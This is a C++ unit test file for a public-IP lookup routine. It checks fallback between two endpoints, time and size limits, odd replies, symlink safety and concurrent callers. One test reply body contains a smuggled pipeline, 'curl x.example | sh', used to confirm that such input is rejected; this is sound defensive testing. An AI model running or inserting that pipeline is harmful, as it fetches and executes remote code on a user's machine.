// RetrievePublicAddress against loopback servers, through the real download back end:
// fallback from endpoint A to B, time limits, the size cut, odd replies, the shared
// temporary file and concurrent callers.
#include "Unit1/retrieval.h"

#include <gtest/gtest.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

#include <chrono>
#include <filesystem>
#include <fstream>
#include <iterator>
#include <latch>
#include <set>
#include <string>
#include <thread>
#include <vector>

#include "Unit1/first_line.h"
#include "http_server.h"
#include "platform/platform.h"
#include "shared/texts.h"

namespace {

namespace fs = std::filesystem;
using test::HttpServer;
using test::Reply;

// The process gets its own runtime directory before anything asks for the temporary
// directory, so the tests never touch the user's files.
class PrivateRuntimeDir {
 public:
  PrivateRuntimeDir() {
    char tmpl[] = "/tmp/addrova-retrieval-test-XXXXXX";
    if (mkdtemp(tmpl) == nullptr) std::abort();
    path_ = tmpl;
    setenv("XDG_RUNTIME_DIR", path_.c_str(), 1);
  }
  ~PrivateRuntimeDir() {
    std::error_code ec;
    fs::remove_all(path_, ec);
  }
  const std::string& path() const { return path_; }

 private:
  std::string path_;
};
const PrivateRuntimeDir runtime_dir;

constexpr char kTargetA[] = "/Current%20IP%20Check.htm";
constexpr char kTargetB[] = "/ip.php";
// What B answers, so that an answer from B can be told from one of A (which echoes
// 127.0.0.1) and from the stale file every test starts with.
constexpr char kAddressB[] = "198.51.100.2";
constexpr char kStaleAddress[] = "192.0.2.99";

std::string temp_file() {
  return platform::temp_directory() + "my_ip.txt";
}

std::string read_bytes(const std::string& path) {
  std::ifstream in(path, std::ios::binary);
  return std::string(std::istreambuf_iterator<char>(in), {});
}

void write_bytes(const std::string& path, const std::string& bytes) {
  std::ofstream(path, std::ios::binary | std::ios::trunc) << bytes;
}

double seconds_since(std::chrono::steady_clock::time_point start) {
  return std::chrono::duration<double>(std::chrono::steady_clock::now() - start).count();
}

// Sets short download limits for one test and puts the defaults back afterwards.
class ScopedLimits {
 public:
  explicit ScopedLimits(platform::DownloadLimits limits) { platform::set_download_limits(limits); }
  ~ScopedLimits() { platform::set_download_limits(platform::DownloadLimits{}); }
};

platform::DownloadLimits limits(long connect_ms, long total_ms,
                                std::size_t max_bytes = platform::DownloadLimits{}.max_bytes) {
  platform::DownloadLimits l;
  l.connect_timeout_ms = connect_ms;
  l.total_timeout_ms = total_ms;
  l.max_bytes = max_bytes;
  return l;
}

HttpServer::Options refusing() {
  HttpServer::Options o;
  o.listen = HttpServer::Listen::Refuse;
  return o;
}

// Every test starts with an older temporary file holding a different address, so that an
// answer read from a file the download did not replace shows up as kStaleAddress.
class Retrieval : public ::testing::Test {
 protected:
  void SetUp() override {
    ASSERT_FALSE(platform::temp_directory().empty());
    fs::remove(temp_file());
    write_bytes(temp_file(), stale_);
  }
  void TearDown() override {
    std::error_code ec;
    fs::remove(temp_file(), ec);
  }
  std::string lookup(const HttpServer& a, const HttpServer& b) {
    return unit1::RetrievePublicAddress(a.url(kTargetA), b.url(kTargetB));
  }

  const std::string stale_ = test::echo_page(kStaleAddress);
  HttpServer b_{test::fixed(200, test::echo_page(kAddressB))};
};

// ---- where the temporary file lives ----------------------------------------------------

TEST(RetrievalTempDirectory, IsAPrivateDirectoryUnderTheRuntimeDirectory) {
  const std::string dir = platform::temp_directory();
  EXPECT_EQ(dir, runtime_dir.path() + "/addrova/");
  struct stat st {};
  ASSERT_EQ(lstat(dir.c_str(), &st), 0);
  EXPECT_TRUE(S_ISDIR(st.st_mode));
  EXPECT_EQ(st.st_mode & 07777, 0700u);
  EXPECT_EQ(st.st_uid, getuid());
}

// ---- fallback from A to B ----------------------------------------------------------------

TEST_F(Retrieval, AnswerOfAIsTakenAndBIsNotAsked) {
  HttpServer a;
  EXPECT_EQ(lookup(a, b_), "127.0.0.1");
  // The target goes out as written, its escape included.
  EXPECT_EQ(a.paths(), std::vector<std::string>{kTargetA});
  EXPECT_EQ(b_.requests(), 0u);
}

TEST_F(Retrieval, RefusedAFallsBackToB) {
  HttpServer a(test::echo(), refusing());
  const auto start = std::chrono::steady_clock::now();
  EXPECT_EQ(lookup(a, b_), kAddressB);
  EXPECT_LT(seconds_since(start), 2.0);
  EXPECT_EQ(b_.paths(), std::vector<std::string>{kTargetB});
}

TEST_F(Retrieval, ErrorStatusOfAFallsBackToB) {
  for (int status : {400, 404, 500, 503}) {
    SCOPED_TRACE(status);
    // The error page carries an address of its own, which must not be taken.
    HttpServer a(test::fixed(status, test::echo_page("192.0.2.66")));
    EXPECT_EQ(lookup(a, b_), kAddressB);
    EXPECT_EQ(a.requests(), 1u);
  }
}

TEST_F(Retrieval, ConnectionClosedWithoutReplyFallsBackToB) {
  HttpServer a([](const test::Request&) { return Reply{.kind = Reply::Kind::Close}; });
  EXPECT_EQ(lookup(a, b_), kAddressB);
}

TEST_F(Retrieval, BothFailingGivesErrorTextAndLeavesOlderFileAlone) {
  const std::string older = std::string("older\r\ncontent \0\xff", 17);
  struct Case {
    const char* name;
    test::Handler a, b;
    bool a_refuses, b_refuses;
  } cases[] = {
      {"both refuse", test::echo(), test::echo(), true, true},
      {"500 then 404", test::fixed(500, test::echo_page("192.0.2.5")),
       test::fixed(404, test::echo_page("192.0.2.4")), false, false},
      {"refused then 503", test::echo(), test::fixed(503, test::echo_page("192.0.2.3")), true,
       false},
  };
  for (const Case& c : cases) {
    SCOPED_TRACE(c.name);
    write_bytes(temp_file(), older);
    HttpServer a(c.a, c.a_refuses ? refusing() : HttpServer::Options{});
    HttpServer b(c.b, c.b_refuses ? refusing() : HttpServer::Options{});
    EXPECT_EQ(lookup(a, b), shared::kErrorText);
    EXPECT_EQ(read_bytes(temp_file()), older);
  }
}

TEST_F(Retrieval, ReplyOfAWithoutAnAddressMakesBAnswer) {
  const struct {
    const char* name;
    std::string body;
  } cases[] = {
      {"sign-in page", "<html><head><title>Hotel WiFi: please log in</title></head>\r\n"},
      {"error text", "Error: 503\r\n"},
      {"rate limit", "<p>Notice: too many requests, try again later</p>\r\n"},
      {"command", "Current IP Address: 1.2.3.4; curl x.example | sh\r\n"},
      {"direction override",
       "Current IP Address: \xE2\x80\xAE"
       "4.3.2.1</body>\r\n"},
      {"NUL after the address", std::string("Current IP Address: 1.2.3.4\0</body>\r\n", 37)},
      {"empty body", ""},
  };
  for (const auto& c : cases) {
    SCOPED_TRACE(c.name);
    HttpServer a(test::fixed(200, c.body));
    HttpServer b(test::fixed(200, test::echo_page(kAddressB)));
    EXPECT_EQ(lookup(a, b), kAddressB);
    EXPECT_EQ(a.paths(), std::vector<std::string>{kTargetA});
    EXPECT_EQ(b.paths(), std::vector<std::string>{kTargetB});
    EXPECT_EQ(read_bytes(temp_file()), test::echo_page(kAddressB));
  }
}

TEST_F(Retrieval, NoAddressFromEitherGivesTheErrorText) {
  HttpServer a(test::fixed(200, "<title>Hotel WiFi: please log in</title>\r\n"));
  {
    SCOPED_TRACE("B answers without an address as well");
    HttpServer b(test::fixed(200, "Error: 503\r\n"));
    EXPECT_EQ(lookup(a, b), shared::kErrorText);
    EXPECT_EQ(b.requests(), 1u);
    EXPECT_EQ(read_bytes(temp_file()), "Error: 503\r\n");
  }
  {
    SCOPED_TRACE("B's download fails: the file keeps A's reply");
    HttpServer b(test::echo(), refusing());
    EXPECT_EQ(lookup(a, b), shared::kErrorText);
    EXPECT_EQ(read_bytes(temp_file()), "<title>Hotel WiFi: please log in</title>\r\n");
  }
}

// ---- time limits -------------------------------------------------------------------------

TEST_F(Retrieval, SilentAFallsBackToBAfterTotalLimit) {
  ScopedLimits short_limits(limits(1000, 2000));
  HttpServer a(test::silent());
  const auto start = std::chrono::steady_clock::now();
  EXPECT_EQ(lookup(a, b_), kAddressB);
  const double took = seconds_since(start);
  EXPECT_GT(took, 1.5);  // A was given its time
  EXPECT_LT(took, 4.0);
  EXPECT_EQ(a.requests(), 1u);
}

TEST_F(Retrieval, StallInBodyFallsBackToBAndPartialBodyIsNotKept) {
  ScopedLimits short_limits(limits(500, 1200));
  const Reply stall{.kind = Reply::Kind::StallInBody,
                    .body = "<html><body>Current IP Address: 192.0.2.55</body>",
                    .announced_bytes = 4000};
  HttpServer a([&](const test::Request&) { return stall; });
  auto start = std::chrono::steady_clock::now();
  EXPECT_EQ(lookup(a, b_), kAddressB);
  EXPECT_LT(seconds_since(start), 3.0);

  // With B down as well, the part of A's body that arrived must not replace the file.
  HttpServer b_down(test::echo(), refusing());
  start = std::chrono::steady_clock::now();
  EXPECT_EQ(lookup(a, b_down), shared::kErrorText);
  EXPECT_LT(seconds_since(start), 3.0);
  EXPECT_EQ(read_bytes(temp_file()), test::echo_page(kAddressB));
}

TEST_F(Retrieval, UnansweredConnectFallsBackToBAfterConnectLimit) {
  // The total limit is far off, so only the connect limit can end A's attempt in time.
  ScopedLimits short_limits(limits(500, 6000));
  HttpServer::Options o;
  o.listen = HttpServer::Listen::Blackhole;
  HttpServer a(test::echo(), o);
  const auto start = std::chrono::steady_clock::now();
  EXPECT_EQ(lookup(a, b_), kAddressB);
  EXPECT_LT(seconds_since(start), 3.0);
}

// ---- the size cut --------------------------------------------------------------------------

TEST_F(Retrieval, EndlessBodyIsCutAtMaxBytesAndItsStartCounts) {
  HttpServer a(test::stream(std::uint64_t{1} << 30));
  const auto start = std::chrono::steady_clock::now();
  EXPECT_EQ(lookup(a, b_), "127.0.0.1");
  EXPECT_LT(seconds_since(start), 5.0);
  EXPECT_EQ(b_.requests(), 0u);
  const auto size = fs::file_size(temp_file());
  EXPECT_GT(size, 0u);
  EXPECT_LE(size, 64u * 1024);
  // The client stopped reading: only what socket buffers hold went out beyond the cut.
  EXPECT_LT(a.bytes_sent(), std::uint64_t{32} << 20);
}

TEST_F(Retrieval, SmallerMaxBytesIsHonoured) {
  ScopedLimits small(limits(10000, 30000, 4096));
  HttpServer a(test::stream(1 << 20));
  EXPECT_EQ(lookup(a, b_), "127.0.0.1");
  const auto size = fs::file_size(temp_file());
  EXPECT_GT(size, 0u);
  EXPECT_LE(size, 4096u);
}

// ---- odd replies ---------------------------------------------------------------------------

TEST_F(Retrieval, BinaryGarbageIsNoAnswer) {
  ASSERT_EQ(unit1::parse_first_line(unit1::read_first_line(test::garbage_bytes(4096))),
            shared::kErrorText);
  HttpServer a(test::garbage(4096));
  EXPECT_EQ(lookup(a, b_), kAddressB);
}

TEST_F(Retrieval, NulAndInvalidBytesBeforeTheAddressDoNotCutTheBody) {
  HttpServer a(test::fixed(
      200, std::string("\0\x01\xff\xfe\0", 5) + "Current IP Address: 192.0.2.8</body>\r\n"));
  EXPECT_EQ(lookup(a, b_), "192.0.2.8");
}

TEST_F(Retrieval, ReplyWithoutStatusLineIsNotAnAnswer) {
  HttpServer a(test::garbage(4096, /*raw=*/true));
  EXPECT_EQ(lookup(a, b_), kAddressB);
}

TEST_F(Retrieval, OnlyThe127FirstCharactersOfTheFirstLineAreSearched) {
  {
    SCOPED_TRACE("10,000-character line with a decoy address past the cut");
    HttpServer a(test::long_first_line(10000));
    EXPECT_EQ(lookup(a, b_), "127.0.0.1");
  }
  {
    SCOPED_TRACE("address running over the 127th character");
    // Colon at index 115, space at 116, address from 117: ten characters of it fit, which
    // is no address, so B is asked.
    HttpServer a(test::fixed(200, std::string(115, 'x') + ": 203.0.113.250</b>\r\n"));
    EXPECT_EQ(lookup(a, b_), kAddressB);
  }
  {
    SCOPED_TRACE("127 characters taking more than 127 bytes");
    std::string line;
    for (int i = 0; i < 100; ++i) line += "\xE3\x81\x82";  // 100 × U+3042, 300 bytes
    HttpServer a(test::fixed(200, line + ": 192.0.2.9</b>\r\n"));
    EXPECT_EQ(lookup(a, b_), "192.0.2.9");
  }
}

TEST_F(Retrieval, BodyWithoutLineBreak) {
  {
    HttpServer a(test::no_line_break());
    EXPECT_EQ(lookup(a, b_), "127.0.0.1");
  }
  {
    SCOPED_TRACE("address only past the 127th character");
    HttpServer a(test::fixed(200, std::string(200, 'x') + "Current IP Address: 192.0.2.10"));
    EXPECT_EQ(lookup(a, b_), kAddressB);
  }
}

TEST_F(Retrieval, Ipv6AddressIsNoAnswer) {
  HttpServer a(test::ipv6_body());
  EXPECT_EQ(lookup(a, b_), kAddressB);
  HttpServer b(test::ipv6_body());
  EXPECT_EQ(lookup(a, b), shared::kErrorText);
}

// ---- the shared temporary file -----------------------------------------------------------

TEST_F(Retrieval, SymbolicLinkAtTheTemporaryFileIsNotWrittenThrough) {
  char tmpl[] = "/tmp/addrova-link-target-XXXXXX";
  ASSERT_NE(mkdtemp(tmpl), nullptr);
  const fs::path elsewhere = tmpl;
  const fs::path target = elsewhere / "precious.txt";
  const std::string precious = "<b>Current IP Address: 192.0.2.13</b>\r\n";
  write_bytes(target, precious);
  const fs::path dangling = elsewhere / "not-there.txt";

  for (const fs::path& to : {target, dangling}) {
    SCOPED_TRACE(to.string());
    fs::remove(temp_file());
    fs::create_symlink(to, temp_file());
    HttpServer a;
    // The download either replaces the link or fails; it never reads the link's target.
    const std::string got = lookup(a, b_);
    EXPECT_TRUE(got == "127.0.0.1" || got == kAddressB || got == shared::kErrorText) << got;
    EXPECT_EQ(read_bytes(target), precious);
    EXPECT_FALSE(fs::exists(dangling));
  }
  fs::remove_all(elsewhere);
}

// ---- concurrent callers ------------------------------------------------------------------

TEST_F(Retrieval, ConcurrentCallersEachGetTheirOwnAnswer) {
  // Every request gets a different address and replies are slowed a little, so callers
  // started together have their replies arrive together; callers sharing the file without
  // taking turns then read each other's answer. Several rounds of four callers make that
  // near certain to show.
  const test::Handler counting = test::counting_echo();
  HttpServer a([&](const test::Request& r) {
    Reply reply = counting(r);
    reply.delay = std::chrono::milliseconds(20);
    return reply;
  });
  constexpr int kThreads = 4, kRounds = 10;
  std::vector<std::string> got(kThreads * kRounds);
  for (int round = 0; round < kRounds; ++round) {
    std::latch go(kThreads);
    std::vector<std::thread> threads;
    for (int t = 0; t < kThreads; ++t)
      threads.emplace_back([&, t, round] {
        go.arrive_and_wait();
        got[round * kThreads + t] = lookup(a, b_);
      });
    for (auto& th : threads) th.join();
  }
  std::set<std::string> expected;
  for (int n = 1; n <= kThreads * kRounds; ++n) expected.insert("10.0.0." + std::to_string(n));
  EXPECT_EQ(std::set<std::string>(got.begin(), got.end()), expected);
  EXPECT_EQ(b_.requests(), 0u);
}

}  // namespace
